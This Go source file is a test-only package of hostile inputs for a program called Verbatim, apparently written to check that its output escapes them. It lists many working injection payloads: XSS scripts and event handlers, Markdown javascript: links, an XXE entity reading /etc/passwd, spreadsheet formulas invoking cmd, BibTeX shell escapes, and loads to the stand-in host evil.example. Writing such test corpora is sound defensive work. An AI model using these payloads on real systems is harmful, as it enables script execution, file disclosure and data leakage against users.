// Package hostile holds what tries to break Verbatim: markup and scripts for every field, names that
// lead out of a folder, files that grow when they are read, requests that no browser sends. Its tests
// try all of it on the real program and keep the outcome in docs/security.md. Only tests import it.
package hostile

import "strings"

// A Payload is text that would run, load or break something if any output took it for more than text.
// What would run sets a variable "ran" of the window, or shows a dialogue.
type Payload struct {
	Name string
	Text string
}

// Payloads are the texts that are put into every field.
var Payloads = []Payload{
	{"script element", `<script>window.ran=1</script>`},
	{"script that closes another", `</script><script>window.ran=2</script>`},
	{"script in capitals", `<SCRIPT>window.ran=3</SCRIPT>`},
	{"script with a space", `<script >window.ran=4</script >`},
	{"script from elsewhere", `<script src=https://evil.example/x.js></script>`},
	{"script from data", `<script src="data:text/javascript,window.ran=5"></script>`},
	{"nested script", `<scr<script>ipt>window.ran=6</scr</script>ipt>`},
	{"image that fails", `<img src=x onerror=window.ran=7>`},
	{"image without quotes or spaces", `<img/src/onerror=window.ran=8>`},
	{"drawing that loads", `<svg onload=window.ran=9>`},
	{"drawing with a script", `<svg><script>window.ran=10</script></svg>`},
	{"drawing that animates", `<svg><animate onbegin=window.ran=11 attributeName=x dur=1s>`},
	{"drawing with foreign content", `<svg><foreignObject><iframe srcdoc="<script>parent.ran=12</script>"></iframe></foreignObject></svg>`},
	{"formula markup", `<math><mtext></mtext><mglyph><style></math><img src onerror=window.ran=13>`},
	{"frame with a document", `<iframe srcdoc="<script>parent.ran=14</script>"></iframe>`},
	{"frame with a script", `<iframe src="javascript:parent.ran=15"></iframe>`},
	{"object", `<object data="data:text/html,<script>parent.ran=16</script>"></object>`},
	{"embedded file", `<embed src="javascript:window.ran=17">`},
	{"details that open", `<details open ontoggle=window.ran=18>x</details>`},
	{"field that takes the focus", `<input autofocus onfocus=window.ran=19>`},
	{"video that fails", `<video><source onerror=window.ran=20></video>`},
	{"marquee", `<marquee onstart=window.ran=21>x</marquee>`},
	{"body that loads", `<body onload=window.ran=22>`},
	{"form elsewhere", `<form action=https://evil.example/><button>x</button></form>`},
	{"button with a script", `<button formaction="javascript:window.ran=23">x</button>`},
	{"base address", `<base href="https://evil.example/">`},
	{"refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`},
	{"policy of its own", `<meta http-equiv="Content-Security-Policy" content="default-src *">`},
	{"style element", `<style>*{background:url(https://evil.example/x)}</style>`},
	{"style import", `<style>@import"https://evil.example/x.css";</style>`},
	{"style attribute", `<p style="position:fixed;inset:0;background:red">x</p>`},
	{"style sheet", `<link rel=stylesheet href=https://evil.example/x.css>`},
	{"prefetch", `<link rel=prefetch href=https://evil.example/>`},
	{"end of an attribute, double", `"><img src=x onerror=window.ran=24>`},
	{"end of an attribute, single", `'><img src=x onerror=window.ran=25>`},
	{"new attribute, double", `" autofocus onfocus="window.ran=26" x="`},
	{"new attribute, single", `' autofocus onfocus='window.ran=27' x='`},
	{"end of the title", `</title><script>window.ran=28</script>`},
	{"end of a text field", `</textarea><script>window.ran=29</script>`},
	{"end of a style", `</style><script>window.ran=30</script>`},
	{"end of a comment", `--><script>window.ran=31</script><!--`},
	{"end of CDATA", `]]><script>window.ran=32</script><![CDATA[`},
	{"open comment", `<!--`},
	{"open comment in a script", `<!--<script>`},
	{"processing instruction", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`},
	{"template element", `<template><script>window.ran=33</script></template>`},
	{"no script element", `<noscript><p title="</noscript><img src=x onerror=window.ran=34>">`},
	{"bytes of another encoding", "+ADw-script+AD4-window.ran=35+ADw-/script+AD4-"},
	{"entities", `&lt;script&gt;window.ran=36&lt;/script&gt;&#60;script&#62;`},
	{"Markdown link with a script", `[x](javascript:window.ran=37)`},
	{"Markdown link spelt with entities", `[x](java&#115;cript&colon;window.ran=38)`},
	{"Markdown link with a tab", "[x](java\tscript:window.ran=39)"},
	{"Markdown link to data", `[x](data:text/html,<script>window.ran=40</script>)`},
	{"Markdown image with a script", `![x](javascript:window.ran=41)`},
	{"Markdown image from elsewhere", `![x](https://evil.example/x.png)`},
	{"Markdown autolink", `<javascript:window.ran=42>`},
	{"Markdown reference", "[x][r]\n\n[r]: javascript:window.ran=43"},
	{"template action", `{{printf "%s" "x"}}{{template "main" .}}`},
	{"template of JavaScript", "${window.ran=44}`+alert(1)+`"},
	{"end of JSON", `"}]}</script><script>window.ran=45</script>`},
	{"lines that end a string", "\u2028window.ran=46\u2029"},
	{"end of a YAML value", "x\"\npublished: true\n---\nwindow.ran: \"47"},
	{"formula, equals", `=HYPERLINK("https://evil.example/","x")`},
	{"formula, plus", `+1+cmd|' /C calc'!A0`},
	{"formula, minus", `-2+3+cmd|' /C calc'!A0`},
	{"formula, at", `@SUM(1+1)*cmd|' /C calc'!A0`},
	{"BibTeX command", `}\input{/etc/passwd}\immediate\write18{id}@misc{x,`},
	{"control characters", "a\x01b\x08c\x1b[31md\x7f"},
	{"turned text", "\u202egnp.exe\u2066x"},
	{"text of no width", "a\u200bb\u2060c\ufeffd"},
	{"sign of a tag", "\U000E0041\U000E0042x"},
	{"not a character", "a\ufffeb\uffffc"},
	{"bytes that are no UTF-8", "a\xff\xfeb\xc0\xafc"},
}

// Joined returns all payloads as one line each, for a page that shall hold all of them. From says with which the text
// begins, since one that is never closed might hide those after it.
func Joined(from int) string {
	var b strings.Builder
	for i := range Payloads {
		p := Payloads[(from+i)%len(Payloads)].Text
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(strings.Join(strings.Fields(strings.ToValidUTF8(p, "\ufffd")), " "))
	}
	return b.String()
}
